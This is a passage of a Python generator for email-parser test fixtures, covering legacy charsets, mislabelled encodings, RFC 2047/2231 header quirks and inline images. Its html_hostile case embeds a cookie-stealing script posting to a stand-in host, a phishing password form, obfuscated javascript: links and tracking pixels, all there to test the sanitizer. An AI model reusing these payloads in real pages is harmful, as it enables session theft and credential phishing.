        Final-Recipient: rfc822;nora.lindqvist@example.com
        Original-Message-ID: <ticket-1054.msg-2@helpline.example>
        Disposition: manual-action/MDN-sent-manually; displayed
        """)
    boundary = "----=_NextPart_000_0012_01DB3D60.1A2B3C40"
    mid = "001201db5d60$1a2b3c40$4e5f6071$@example.com"
    headers = T(f"""
        From: Nora Lindqvist <nora.lindqvist@example.com>
        To: "Helpline Support" <support@helpline.example>
        Subject: Read: [#1054] Your new laptop is ready for collection
        Date: Mon, 23 Nov 2026 10:12:40 +0000
        Message-ID: <{mid}>
        MIME-Version: 1.0
        Content-Type: multipart/report;
        \treport-type=disposition-notification;
        \tboundary="{boundary}"
        X-Mailer: Microsoft Outlook 16.0
        Thread-Index: AdtdYBorPEBOX2BxKkKsqEyNyLPm1w==
        Content-Language: en-gb
        """)
    body = mp(
        boundary,
        part(
            """
            Content-Type: text/plain;
            \tcharset="us-ascii"
            Content-Transfer-Encoding: 7bit
            """,
            enc(human, "ascii"),
        ),
        part("Content-Type: message/disposition-notification\n", enc(mdn, "ascii")),
        preamble="This is a multipart message in MIME format.\n\n",
    )
    return case(
        "mdn_read_receipt_outlook.eml",
        assemble(headers, "\n", body),
        description="Outlook read receipt: multipart/report; report-type=disposition-notification with Original-Message-ID. Not a DSN (is_bounce false), and it carries none of the listed automation headers, so by the manifest's rules is_auto_reply is false even though a help desk probably should not reopen a ticket for it.",
        from_address="nora.lindqvist@example.com",
        from_name="Nora Lindqvist",
        subject="Read: [#1054] Your new laptop is ready for collection",
        message_id=mid,
        text_contains=["was read on Monday, November 23, 2026"],
        attachments=[],
        charset_note="US-ASCII.",
        plain=human,
    )


# --------------------------------------------------------------------------
# Charsets
# --------------------------------------------------------------------------


def iso2022jp() -> Case:
    text = T("""
        ヘルプライン サポート御中

        いつもお世話になっております。
        株式会社サンプルの山田です。

        先月分の請求書（No. 2026-1101）を紛失してしまいました。
        お手数ですが、再発行をお願いできますでしょうか。

        よろしくお願いいたします。

        山田 太郎
        """)
    subject = "請求書の再発行のお願い（2026年10月分）"
    words = [
        ew_b("ISO-2022-JP", jis(chunk)) for chunk in ("請求書の再発行の", "お願い（2026年10月分）")
    ]
    name = ew_b("ISO-2022-JP", jis("山田 太郎"))
    mid = "20261123093012.8F3A.yamada@example.com"
    headers = T(f"""
        From: {name} <yamada.taro@example.com>
        To: support@helpline.example
        Subject: {words[0]}
         {words[1]}
        Date: Mon, 23 Nov 2026 18:30:12 +0900
        Message-Id: <{mid}>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=ISO-2022-JP
        Content-Transfer-Encoding: 7bit
        X-Mailer: Becky! ver. 2.81.06 [ja]
        """)
    return case(
        "charset_iso2022jp.eml",
        assemble(headers, "\n", jis(text)),
        description="Japanese mail from a Windows mailer: ISO-2022-JP body (7bit, ESC $ B / ESC ( B), ISO-2022-JP B-encoded subject in two words each closed in ASCII, encoded display name with a space.",
        from_address="yamada.taro@example.com",
        from_name="山田 太郎",
        subject=subject,
        message_id=mid,
        text_contains=[
            "いつもお世話になっております。",
            "先月分の請求書（No. 2026-1101）を紛失してしまいました。",
        ],
        reply_text=text.strip(),
        charset_note="ISO-2022-JP, labelled.",
        plain=text,
    )


def iso2022jp_unlabelled() -> Case:
    text = T("""
        お世話になっております。

        注文番号 A-7741 の配送予定日を教えていただけますか。
        急ぎで申し訳ありませんが、よろしくお願いします。

        佐藤 花子
        """)
    body = jis(text)
    assert b"\x1b$B" in body
    subject = "配送予定日について"
    mid = "200611230941.AA01234@mailhost.example.com"
    headers = T(f"""
        From: sato.hanako@example.com
        To: support@helpline.example
        Subject: {ew_b("ISO-2022-JP", jis(subject))}
        Date: Mon, 23 Nov 2026 18:41:55 +0900
        Message-Id: <{mid}>
        MIME-Version: 1.0
        Content-Type: text/plain
        Content-Transfer-Encoding: 7bit
        """)
    return case(
        "charset_iso2022jp_unlabelled.eml",
        assemble(headers, "\n", body),
        description="Old-style Japanese mail: 'Content-Type: text/plain' with NO charset parameter, body is raw ISO-2022-JP (ESC $ B ... ESC ( B). Strictly that means US-ASCII; the expected text is the Japanese, found by recognising the escape sequences. Bare address in From (no display name).",
        from_address="sato.hanako@example.com",
        from_name=None,
        subject=subject,
        message_id=mid,
        text_contains=["注文番号 A-7741 の配送予定日を教えていただけますか。"],
        reply_text=text.strip(),
        charset_note="No charset label; ISO-2022-JP must be sniffed from ESC $ B. Expected text must not contain ESC (\\u001b).",
        plain=text,
    )


def shift_jis() -> Case:
    text = T("""
        サポート担当者様

        ソフトウェアの更新後、管理画面の表示が崩れるようになりました。
        再現手順は以下のとおりです。
        ①ログインする
        ②「設定」→「表示」を開く

        ご確認をお願いいたします。
        高橋
        """)
    body = enc(text, "cp932")
    # ソ and 表 have 0x5C (backslash) trail bytes
    assert b"\x83\x5c" in body
    assert b"\x95\x5c" in body
    try:
        text.encode("shift_jis")
    except UnicodeEncodeError:
        pass  # ① is a Windows (CP932) extension: the label lies, as in real life
    else:
        raise AssertionError("expected a CP932-only character")
    subject = "管理画面の表示について"
    mid = "20261123102233.5C1E.takahashi@example.com"
    headers = T(f"""
        From: {ew_b("Shift_JIS", enc("高橋 健", "cp932"))} <takahashi.ken@example.com>
        To: support@helpline.example
        Subject: {ew_b("Shift_JIS", enc(subject, "cp932"))}
        Date: Mon, 23 Nov 2026 19:22:33 +0900
        Message-ID: <{mid}>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=Shift_JIS
        Content-Transfer-Encoding: 8bit
        """)
    return case(
        "charset_shift_jis_cp932.eml",
        assemble(headers, "\n", body),
        description="Shift_JIS body in raw 8bit with 0x5C ('\\') trail bytes (ソ, 表) and circled digits ①② that exist only in Microsoft's CP932 — the usual reality behind a 'Shift_JIS' label.",
        from_address="takahashi.ken@example.com",
        from_name="高橋 健",
        subject=subject,
        message_id=mid,
        text_contains=[
            "ソフトウェアの更新後、管理画面の表示が崩れるようになりました。",
            "①ログインする",
            "②「設定」→「表示」を開く",
        ],
        reply_text=text.strip(),
        charset_note="Labelled Shift_JIS, bytes are CP932 (decode Shift_JIS as cp932/windows-31j, as WHATWG does).",
        plain=text,
    )


def euc_kr() -> Case:
    text = T("""
        안녕하세요,

        비밀번호를 재설정했는데도 로그인이 되지 않습니다.
        오류 메시지: "계정이 잠겼습니다"
        확인 부탁드립니다.

        감사합니다.
        김민준 드림
        """)
    subject = "로그인 오류 문의"
    mid = "20261123183005.A1B2C3@mail.example.com"
    headers = T(f"""
        From: {ew_b("EUC-KR", enc("김민준", "euc_kr"))} <minjun.kim@example.com>
        To: <support@helpline.example>
        Subject: {ew_b("ks_c_5601-1987", enc(subject, "euc_kr"))}
        Date: Mon, 23 Nov 2026 18:30:05 +0900
        Message-ID: <{mid}>
        MIME-Version: 1.0
        Content-Type: text/plain; charset="euc-kr"
        Content-Transfer-Encoding: base64
        """)
    return case(
        "charset_euc_kr.eml",
        assemble(headers, "\n", b64_text(enc(text, "euc_kr"))),
        description="Korean: EUC-KR body in base64, subject labelled ks_c_5601-1987 (Outlook's name for the same charset family), From display name in EUC-KR.",
        from_address="minjun.kim@example.com",
        from_name="김민준",
        subject=subject,
        message_id=mid,
        text_contains=["비밀번호를 재설정했는데도 로그인이 되지 않습니다."],
        reply_text=text.strip(),
        charset_note="EUC-KR body; 'ks_c_5601-1987' label in the subject (treat as EUC-KR/CP949).",
        plain=text,
    )


def gb2312() -> Case:
    text = T("""
        您好：

        我们公司的发票抬头需要修改，请问应该如何操作？
        新的抬头是"示例科技有限公司"。

        谢谢！
        王伟
        """)
    subject = "关于发票抬头修改的问题"
    mid = "202611231745.3F8A2C@example.com"
    headers = T(f"""
        From: {ew_b("gb2312", enc("王伟", "gb2312"))} <wang.wei@example.com>
        To: support@helpline.example
        Subject: {ew_b("gb2312", enc(subject, "gb2312"))}
        Date: Mon, 23 Nov 2026 17:45:09 +0800
        Message-ID: <{mid}>
        X-Mailer: Foxmail 7.2.25.228[cn]
        Mime-Version: 1.0
        Content-Type: text/plain;
        \tcharset="gb2312"
        Content-Transfer-Encoding: base64
        """)
    return case(
        "charset_gb2312.eml",
        assemble(headers, "\n", b64_text(enc(text, "gb2312"))),
        description="Simplified Chinese from Foxmail: GB2312 body in base64, GB2312 subject and display name.",
        from_address="wang.wei@example.com",
        from_name="王伟",
        subject=subject,
        message_id=mid,
        text_contains=["我们公司的发票抬头需要修改，请问应该如何操作？"],
        reply_text=text.strip(),
        charset_note="GB2312 (only characters inside GB2312).",
        plain=text,
    )


def gb18030() -> Case:
    text = T("""
        您好，

        我叫王喆，上周在𠮷野家门店的消费发票金额有误（应为￥128.00）。
        订单号：GB-2026-1123。

        麻烦尽快处理，谢谢！
        """)
    for char in ("喆", "𠮷"):
        try:
            char.encode("gb2312")
        except UnicodeEncodeError:
            continue
        raise AssertionError(f"{char} should be outside GB2312")
    try:
        "𠮷".encode("gbk")
    except UnicodeEncodeError:
        pass
    else:
        raise AssertionError("𠮷 should need a GB18030 four-byte sequence")
    assert len("𠮷".encode("gb18030")) == 4
    subject = "发票金额有误（王喆）"
    mid = "a7c9e1f3b5d7@mail.example.com"
    headers = T(f"""
        From: {ew_b("GB18030", enc("王喆", "gb18030"))} <wang.zhe@example.com>
        To: support@helpline.example
        Subject: {ew_b("GB18030", enc(subject, "gb18030"))}
        Date: Mon, 23 Nov 2026 17:52:40 +0800
        Message-ID: <{mid}>
        MIME-Version: 1.0
        Content-Type: text/plain; charset="GB18030"
        Content-Transfer-Encoding: base64
        """)
    return case(
        "charset_gb18030.eml",
        assemble(headers, "\n", b64_text(enc(text, "gb18030"))),
        description="GB18030 body with 喆 (GBK two-byte, not in GB2312) and 𠮷 (U+20BB7, a GB18030 four-byte sequence).",
        from_address="wang.zhe@example.com",
        from_name="王喆",
        subject=subject,
        message_id=mid,
        text_contains=["我叫王喆", "𠮷野家"],
        reply_text=text.strip(),
        charset_note="GB18030 incl. a 4-byte sequence (supplementary plane).",
        plain=text,
    )


def gb2312_label_gbk() -> Case:
    text = T("""
        你好，

        我是朱镕，发票上的名字“朱熔”写错了，应该是“镕”字。
        另外同事王喆的发票也有同样的问题。

        谢谢
        """)
    data = enc(text, "gbk")
    try:
        data.decode("gb2312")
    except UnicodeDecodeError:
        pass
    else:
        raise AssertionError("body should not be decodable as strict GB2312")
    subject = "发票姓名错误"
    mid = "20261123180102.7D2E@example.com"
    headers = T(f"""
        From: zhu.rong@example.com
        To: support@helpline.example
        Subject: {ew_b("gb2312", enc(subject, "gb2312"))}
        Date: Mon, 23 Nov 2026 18:01:02 +0800
        Message-ID: <{mid}>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=gb2312
        Content-Transfer-Encoding: base64
        """)
    return case(
        "charset_gb2312_label_gbk_bytes.eml",
        assemble(headers, "\n", b64_text(data)),
        description="Body labelled gb2312 but containing GBK-only characters (镕, 喆) — extremely common from Chinese webmail. A strict GB2312 decoder fails; decode the gb2312 label as GBK/GB18030 (WHATWG does).",
        from_address="zhu.rong@example.com",
        from_name=None,
        subject=subject,
        message_id=mid,
        text_contains=["应该是“镕”字", "王喆"],
        reply_text=text.strip(),
        charset_note="Mislabelled: gb2312 label, GBK bytes.",
        plain=text,
    )


def big5() -> Case:
    text = T("""
        您好：

        我的帳號無法登入，系統顯示「許可權不足」。
        許多功能都無法使用，請協助處理，謝謝。

        陳小姐
        """)
    data = enc(text, "big5")
    # 許 and 功 have 0x5C (backslash) trail bytes
    assert b"\xb3\x5c" in data
    assert b"\xa5\x5c" in data
    subject = "帳號無法登入"
    mid = "20261123174408.GA12345@example.com"
    headers = T(f"""
        From: {ew_b("big5", enc("陳小姐", "big5"))} <chen@example.com>
        To: support@helpline.example
        Subject: {ew_b("big5", enc(subject, "big5"))}
        Date: Mon, 23 Nov 2026 17:44:08 +0800
        Message-ID: <{mid}>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=big5
        Content-Transfer-Encoding: 8bit
        """)
    return case(
        "charset_big5.eml",
        assemble(headers, "\n", data),
        description="Traditional Chinese in raw 8bit Big5, including 許 and 功 whose second byte is 0x5C ('\\').",
        from_address="chen@example.com",
        from_name="陳小姐",
        subject=subject,
        message_id=mid,
        text_contains=["我的帳號無法登入，系統顯示「許可權不足」。", "許多功能都無法使用"],
        reply_text=text.strip(),
        charset_note="Big5, 8bit, 0x5C trail bytes.",
        plain=text,
    )


def koi8r() -> Case:
    text = T("""
        Здравствуйте!

        Не могу войти в личный кабинет: после ввода пароля страница просто обновляется.
        Браузер - Firefox 140. Подскажите, пожалуйста, что делать?

        С уважением,
        Дмитрий Соколов
        """)
    subject = "Не могу войти в личный кабинет"
    mid = "1795436100.334455@mail.example.com"
    headers = T(f"""
        From: {ew_b("KOI8-R", enc("Дмитрий Соколов", "koi8_r"))} <d.sokolov@example.com>
        To: support@helpline.example
        Subject: {ew_b("koi8-r", enc(subject, "koi8_r"))}
        Date: Mon, 23 Nov 2026 13:35:00 +0300
        Message-ID: <{mid}>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=koi8-r
        Content-Transfer-Encoding: 8bit
        """)
    return case(
        "charset_koi8r.eml",
        assemble(headers, "\n", enc(text, "koi8_r")),
        description="Russian in KOI8-R, raw 8bit body, KOI8-R encoded subject and display name.",
        from_address="d.sokolov@example.com",
        from_name="Дмитрий Соколов",
        subject=subject,
        message_id=mid,
        text_contains=["Не могу войти в личный кабинет", "С уважением,"],
        reply_text=text.strip(),
        charset_note="KOI8-R, 8bit.",
        plain=text,
    )


def cp1252_as_latin1() -> Case:
    text = T("""
        Hi team,

        The “Premium” plan was billed at €49.00 instead of €39.00 – could you check?
        Also, the invoice says “Mueller GmbH” but we’re “Müller & Co.”

        Thanks,
        Chloé Dubois
        """)
    data = enc(text, "cp1252")
    assert any(0x80 <= b <= 0x9F for b in data)
    assert data.decode("latin-1") != text  # as labelled, these bytes are C1 controls
    subject = "Wrong price on “Premium” plan"
    boundary = "----=_NextPart_000_0007_01DB3D5E.2A1B3C40"
    mid = "000801db3d5e$2a1b3c40$0201a8c0@LAPTOP"
    headers = T(f"""
        Message-ID: <{mid}>
        From: "Chloe Dubois" <chloe.dubois@example.com>
        To: <support@helpline.example>
        Subject: {ew_q("iso-8859-1", enc(subject, "cp1252"))}
        Date: Mon, 23 Nov 2026 10:55:12 +0100
        MIME-Version: 1.0
        Content-Type: multipart/alternative;
        \tboundary="{boundary}"
        X-Priority: 3
        X-MSMail-Priority: Normal
        X-Mailer: Microsoft Outlook Express 6.00.2900.5931
        X-MimeOLE: Produced By Microsoft MimeOLE V6.00.2900.6157
        """)
    html_text = (
        '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.0 Transitional//EN">\n'
        '<HTML><HEAD>\n<META http-equiv=Content-Type content="text/html; charset=iso-8859-1">\n'
        "</HEAD>\n<BODY bgColor=#ffffff>\n"
        + "".join(
            f"<DIV><FONT face=Arial size=2>{line or '&nbsp;'}</FONT></DIV>\n"
            for line in text.rstrip("\n").split("\n")
        )
        + "</BODY></HTML>\n"
    ).replace("& Co.", "&amp; Co.")
    body = mp(
        boundary,
        part(
            """
            Content-Type: text/plain;
            \tcharset="iso-8859-1"
            Content-Transfer-Encoding: quoted-printable
            """,
            qp(data) + b"\n",
        ),
        part(
            """
            Content-Type: text/html;
            \tcharset="iso-8859-1"
            Content-Transfer-Encoding: quoted-printable
            """,
            qp(enc(html_text, "cp1252")) + b"\n",
        ),
        preamble="This is a multi-part message in MIME format.\n\n",
    )
    return case(
        "charset_cp1252_labelled_latin1.eml",
        assemble(headers, "\n", body),
        description="Outlook Express: text labelled iso-8859-1 that is really windows-1252 — bytes 0x93/0x94 (curly quotes), 0x80 (euro), 0x96 (en dash), 0x92 (apostrophe). Same in the Q-encoded subject. Expected text uses the real characters.",
        from_address="chloe.dubois@example.com",
        from_name="Chloe Dubois",
        subject=subject,
        message_id=mid,
        text_contains=[
            "The “Premium” plan was billed at €49.00 instead of €39.00 – could you check?",
            "we’re “Müller & Co.”",
        ],
        reply_text=text.strip(),
        charset_note="Mislabelled: iso-8859-1 label, windows-1252 bytes 0x80-0x9F (decode ISO-8859-1 as windows-1252, as WHATWG does).",
        plain=text,
    )


def rfc2047_split() -> Case:
    topic = "Réclamation : commande n° 4471 — colis endommagé 📦"
    data = topic.encode("utf-8")
    cut_dash = data.index("—".encode()) + 2
    cut_emoji = data.index("📦".encode()) + 2
    words = ew_words(topic, "UTF-8", [cut_dash, cut_emoji])
    for chunk in (data[:cut_dash], data[cut_dash:cut_emoji], data[cut_emoji:]):
        try:
            chunk.decode("utf-8")
        except UnicodeDecodeError:
            continue
        raise AssertionError("each encoded word should be undecodable on its own")
    name = "Ana José García"
    name_bytes = name.encode("utf-8")
    name_cut = name_bytes.index("é".encode()) + 1
    name_words = ew_words(name, "UTF-8", [name_cut], kind="Q")
    text = T("""
        Bonjour,

        le colis de la commande n° 4471 est arrivé endommagé : la boîte était écrasée et deux verres sont cassés.
        Pouvez-vous m’envoyer un bon de retour ?

        Ana José García
        """)
    mid = "CAF9kD2mQ4rS6tU8vW0xY2zA4bC6dE8fG0hI2jK4lM6nO8p@mail.gmail.example"
    headers = T(f"""
        MIME-Version: 1.0
        From: {name_words[0]} {name_words[1]} <ana.garcia@example.com>
        Date: Mon, 23 Nov 2026 11:02:17 +0100
        Message-ID: <{mid}>
        Subject: Re: {words[0]}
         {words[1]}
        \t{words[2]}
        To: support@helpline.example
        In-Reply-To: <ticket-1055.msg-1@helpline.example>
        References: <ticket-1055.msg-1@helpline.example>
        Content-Type: text/plain; charset="UTF-8"
        Content-Transfer-Encoding: quoted-printable
        """)
    return case(
        "header_rfc2047_split_utf8.eml",
        assemble(headers, "\n", qp(enc(text, "utf-8"))),
        description="RFC 2047 words that split a UTF-8 character between them (forbidden by RFC 2047 §5, common in practice): subject is plain 'Re: ' + three B words cutting inside '—' and inside '📦'; display name is two Q words cutting inside 'é'. Decode by joining adjacent same-charset words' bytes before decoding.",
        from_address="ana.garcia@example.com",
        from_name=name,
        subject="Re: " + topic,
        message_id=mid,
        in_reply_to="ticket-1055.msg-1@helpline.example",
        references=["ticket-1055.msg-1@helpline.example"],
        text_contains=["la boîte était écrasée et deux verres sont cassés."],
        reply_text=text.strip(),
        charset_note="UTF-8 split across encoded words; no U+FFFD may appear in subject or name.",
        plain=text,
    )


def rfc2231_filenames() -> Case:
    pdf = make_pdf("Seikyusho 2026-11")
    pdf_name = "日本語の請求書.pdf"
    csv_name = "Rechnungsübersicht November 2026 – Kunde Müller-Lüdenscheidt.csv"
    csv = enc(
        "Rechnung;Betrag;Status\n2026-1101;1.250,00 €;offen\n2026-1102;89,90 €;bezahlt\n", "utf-8"
    )
    csv = csv.replace(b"\n", b"\r\n")
    long_name = "Quarterly_support_metrics_for_the_board_meeting_December_2026_final_v3.txt"
    long_data = b"Tickets opened: 1204\r\nTickets solved: 1188\r\nMedian first reply: 38 min\r\n"
    latin_name = "Übersicht Größen.txt"
    latin_data = enc("Größe S, M, L, XL\n", "latin-1").replace(b"\n", b"\r\n")
    csv_enc = pct(csv_name.encode("utf-8"))
    split = csv_enc.index("%E2%80%93") + len("%E2%80")  # cut inside the en dash
    assert csv_name.encode("utf-8").decode("utf-8") == csv_name
    text = "Hi,\n\nplease find the four documents attached.\n\nKenji\n"
    boundary = "------------H7kL2mN4pQ6rS8tV0wX2yZ4"
    mid = "c0ffee12-3456-4789-abcd-ef0123456789@example.com"
    headers = T(f"""
        Content-Type: multipart/mixed; boundary="{boundary}"
        Message-ID: <{mid}>
        Date: Mon, 23 Nov 2026 10:33:21 +0100
        MIME-Version: 1.0
        User-Agent: Mozilla Thunderbird
        From: Kenji Mori <kenji.mori@example.com>
        To: support@helpline.example
        Subject: Documents for ticket 1056
        """)
    body = mp(
        boundary,
        part(
            """
            Content-Type: text/plain; charset=UTF-8; format=flowed
            Content-Transfer-Encoding: 7bit
            """,
            enc(text, "ascii"),
        ),
        part(
            f"""
            Content-Type: application/pdf;
             name="{ew_b("UTF-8", pdf_name.encode())}"
            Content-Disposition: attachment;
             filename*=UTF-8''{pct(pdf_name.encode("utf-8"))}
            Content-Transfer-Encoding: base64
            """,
            b64(pdf),
        ),
        part(
            f"""
            Content-Type: text/csv; charset=UTF-8
            Content-Disposition: attachment;
             filename*0*=UTF-8''{csv_enc[:split]};
             filename*1*={csv_enc[split:]}
            Content-Transfer-Encoding: base64
            """,
            b64(csv),
        ),
        part(
            f"""
            Content-Type: text/plain; charset=US-ASCII
            Content-Disposition: attachment;
             filename*0="{long_name[:48]}";
             filename*1="{long_name[48:]}"
            Content-Transfer-Encoding: base64
            """,
            b64(long_data),
        ),
        part(
            f"""
            Content-Type: text/plain; charset=ISO-8859-1
            Content-Disposition: attachment;
             filename*=iso-8859-1'de'{pct(latin_name.encode("latin-1"))}
            Content-Transfer-Encoding: base64
            """,
            b64(latin_data),
        ),
        preamble="This is a multi-part message in MIME format.\n",
    )
    return case(
        "attach_rfc2231_filenames.eml",
        assemble(headers, "\n", body),
        description="RFC 2231 parameter forms: filename*=UTF-8''%E6%97%A5... (with an RFC 2047 name= fallback on Content-Type); filename*0*/filename*1* continuation where the split falls inside the UTF-8 bytes of '–'; plain filename*0/filename*1 continuation; filename*=iso-8859-1'de'... with a language tag. The three text/* attachments must not leak into the body text.",
        from_address="kenji.mori@example.com",
        from_name="Kenji Mori",
        subject="Documents for ticket 1056",
        message_id=mid,
        text_contains=["please find the four documents attached."],
        reply_text=text.strip(),
        attachments=[
            att(pdf_name, "application/pdf", pdf),
            att(csv_name, "text/csv", csv),
            att(long_name, "text/plain", long_data),
            att(latin_name, "text/plain", latin_data),
        ],
        charset_note="Filenames: UTF-8 and ISO-8859-1 via RFC 2231; continuation decoded after joining.",
        plain=text,
    )


def qp_soft_breaks() -> Case:
    wire = T("""
        Dear Helpline team,

        This paragraph is deliberately long so that the sending client had to wrap =
        it with soft line breaks; the words on either side of each break must be re=
        joined without any extra space or newline.

        The caf=C3=
        =A9 on the ground floor has no Wi-Fi since Monday, and the r=c3=a9ception =
        desk can't print either.

        Formula from the report: total =3D net + VAT (20 %)=20
        Tab-separated:=09A=09B
        Trailing space kept:=20

        Kind regards,
        Fran=C3=A7ois
        """)
    assert all(len(line) <= 76 for line in wire.split("\n"))
    decoded = quopri.decodestring(wire.encode("ascii")).decode("utf-8")
    expected = [
        "so that the sending client had to wrap it with soft line breaks; the words on either side of each break must be rejoined without any extra space or newline.",
        "The café on the ground floor has no Wi-Fi since Monday, and the réception desk can't print either.",
        "total = net + VAT (20 %)",
        "Tab-separated:\tA\tB",
        "Kind regards,\nFrançois",
    ]
    mid = "qp-8d1e2f3a@mail.example.com"
    headers = T(f"""
        From: =?UTF-8?Q?Fran=C3=A7ois_Lef=C3=A8vre?= <francois.lefevre@example.com>
        To: support@helpline.example
        Subject: =?UTF-8?Q?Wi-Fi_au_caf=C3=A9?=
        Date: Mon, 23 Nov 2026 09:05:00 +0100
        Message-ID: <{mid}>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=utf-8
        Content-Transfer-Encoding: quoted-printable
        """)
    return case(
        "body_qp_soft_breaks.eml",
        assemble(headers, "\n", wire.encode("ascii")),
        description="Hand-written quoted-printable: soft breaks in mid-word, a soft break between the two bytes of one UTF-8 character (=C3=<CRLF>=A9), lower-case hex (=c3=a9), =3D, =09 and trailing =20.",
        from_address="francois.lefevre@example.com",
        from_name="François Lefèvre",
        subject="Wi-Fi au café",
        message_id=mid,
        text_contains=expected,
        reply_text=None,
        charset_note="UTF-8 quoted-printable with multi-byte characters split over a soft line break.",
        plain=decoded.replace("\r\n", "\n"),
    )


def utf8_8bit_no_cte() -> Case:
    subject = "Überweisung für Rechnung №42 — Bestätigung"
    name = "Zoë Äpfelbaum"
    text = T("""
        Grüß Gott,

        anbei die Bestätigung: 1 234,56 € wurden am 20.11. überwiesen.
        Naïve café owners say “merci” 🙂 — 日本語も大丈夫です。

        Zoë
        """)
    mid = "8bit-5e6f7a8b@example.com"
    headers = (
        T(f"""
        Message-ID: <{mid}>
        Date: Mon, 23 Nov 2026 09:10:00 +0100
        To: support@helpline.example
        MIME-Version: 1.0
        Content-Type: text/plain; charset=utf-8
        """).encode("ascii")
        + f"From: {name} <zoe@example.com>\nSubject: {subject}\n".encode()
    )
    return case(
        "body_utf8_8bit_no_cte.eml",
        assemble(headers, "\n", enc(text, "utf-8")),
        description="8-bit UTF-8 body with no Content-Transfer-Encoding header at all, plus raw (unencoded) UTF-8 in the Subject and From display name, as SMTPUTF8 and many scripts send it.",
        from_address="zoe@example.com",
        from_name=name,
        subject=subject,
        message_id=mid,
        text_contains=[
            "1 234,56 € wurden am 20.11. überwiesen.",
            "“merci” 🙂",
            "日本語も大丈夫です。",
        ],
        reply_text=text.strip(),
        charset_note="Raw UTF-8 in headers and body; no CTE (defaults to 7bit but is 8bit).",
        plain=text,
    )


# --------------------------------------------------------------------------
# HTML
# --------------------------------------------------------------------------


def html_hostile() -> Case:
    html = T("""
        <!DOCTYPE html>
        <html><head>
        <meta http-equiv="refresh" content="0;url=https://evil.example/phish">
        <base href="https://evil.example/">
        <style>body{display:none} .x{background:url(https://tracker.example/css.gif)}</style>
        <script>fetch('https://evil.example/steal?c='+document.cookie)</script>
        </head>
        <body onload="alert(1)">
        <p>Hello support,</p>
        <p>Our order #8812 arrived damaged. Photos: <a href="javascript:alert(document.domain)">click here</a>.</p>
        <p><img src="x" onerror="alert(2)">Please advise &amp; refund.</p>
        <p>Caf&eacute; Exempel AB</p>
        <p><a href="https://shop.example.com/orders/8812" onclick="steal()">View order</a>
        <a href="JaVaScRiPt&#58;alert(3)">details</a></p>
        <iframe src="https://evil.example/frame" width="0" height="0"></iframe>
        <form action="https://evil.example/login" method="post"><input type="password" name="pw"><button>Verify</button></form>
        <svg><script>alert(4)</script></svg>
        <div style="background-image:url('https://tracker.example/bg.png')">Sent from the Exempel shop</div>
        <img src="https://tracker.example/open/8f3a9c.gif?u=support%40helpline.example" width="1" height="1" alt="" style="display:none">
        </body></html>
        """)
    mid = "8812-damaged.4f1c@shop.example.com"
    headers = T(f"""
        From: Exempel AB <orders@shop.example.com>
        To: support@helpline.example
        Subject: Order #8812 arrived damaged
        Date: Mon, 23 Nov 2026 08:59:59 +0100
        Message-ID: <{mid}>
        MIME-Version: 1.0
        Content-Type: text/html; charset="utf-8"
        Content-Transfer-Encoding: quoted-printable
        """)
    return case(
        "html_hostile.eml",
        assemble(headers, "\n", qp(enc(html, "utf-8"))),
        description="HTML-only message (no text/plain part) full of hazards: <script>, <style> hiding the body, meta refresh, <base>, onload/onerror/onclick, javascript: and entity-obfuscated JaVaScRiPt&#58; links, <iframe>, <form> with a password field, <svg><script>, a CSS url() beacon and a 1x1 tracking pixel from https://tracker.example/. The plain text must be derived from the HTML.",
        from_address="orders@shop.example.com",
        from_name="Exempel AB",
        subject="Order #8812 arrived damaged",
        message_id=mid,
        text_contains=[
            "Our order #8812 arrived damaged.",
            "Please advise & refund.",
            "Café Exempel AB",
        ],
        html_must_not_contain=[
            "<script",
            "<style",
            "<iframe",
            "<form",
            "<input",
            "<meta",
            "<base",
            "onload",
            "onerror",
            "onclick",
            "javascript:",
            "alert(",
            "https://tracker.example",
            "evil.example",
        ],
        charset_note="UTF-8 quoted-printable HTML; text_contains is checked against the text derived from the HTML.",
        plain=None,
    )


def html_inline_cid() -> Case:
    logo = make_png(48, 16, (0x1F, 0x4E, 0x79))
    shot = make_png(64, 32, (0xEE, 0xEE, 0xEE))
    logo_cid = "image001.png@01DB3D5E.6F2A1B30"
    shot_cid = "image002.png@01DB3D5E.6F2A1B30"
    plain = T(f"""
        Hi,

        The error from the screenshot below appears every time I open the reports page:

        [cid:{shot_cid}]

        Best regards,
        Aiko Tanaka
        [cid:{logo_cid}]
        Example Corp
        """)
    html = T(f"""
        <html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
        <body lang="EN-GB" style="word-wrap:break-word">
        <div class="WordSection1">
        <p class="MsoNormal">Hi,</p>
        <p class="MsoNormal">The error from the screenshot below appears every time I open the reports page:</p>
        <p class="MsoNormal"><img width="64" height="32" style="width:.6666in;height:.3333in" id="Picture_x0020_2" src="cid:{shot_cid}" alt="screenshot"></p>
        <p class="MsoNormal">Best regards,<br>Aiko Tanaka</p>
        <p class="MsoNormal"><img width="48" height="16" id="Picture_x0020_1" src="cid:{logo_cid}" alt="Example Corp logo"></p>
        <p class="MsoNormal">Example Corp</p>
        </div>
        </body>
        </html>
        """)
    related = "_004_AM9PR03MB7154D2E3F4A5B6C7D8E9F0A1B2C3D4E5AM9PR03MB7154eurp_"
    alternative = "_000_AM9PR03MB7154D2E3F4A5B6C7D8E9F0A1B2C3D4E5AM9PR03MB7154eurp_"
    mid = "AM9PR03MB7154D2E3F4A5B6C7D8E9F0A1B2C3D4E5@AM9PR03MB7154.eurprd03.prod.outlook.example"
    headers = T(f"""
        From: Aiko Tanaka <aiko.tanaka@example.com>
        To: Helpline Support <support@helpline.example>
        Subject: Reports page error
        Thread-Topic: Reports page error
        Thread-Index: AdtdZ2Ne0mJ4Q3bZQy2x8wAAAAAAAA==
        Date: Mon, 23 Nov 2026 10:50:00 +0000
        Message-ID: <{mid}>
        Accept-Language: en-GB, en-US
        Content-Language: en-GB
        X-MS-Has-Attach: yes
        X-MS-TNEF-Correlator:
        Content-Type: multipart/related;
        \tboundary="{related}";
        \ttype="multipart/alternative"
        MIME-Version: 1.0
        """)
    alt = mp(
        alternative,
        part(
            """
            Content-Type: text/plain; charset="us-ascii"
            Content-Transfer-Encoding: quoted-printable
            """,
            qp(enc(plain, "ascii")),
        ),
        part(
            """
            Content-Type: text/html; charset="us-ascii"
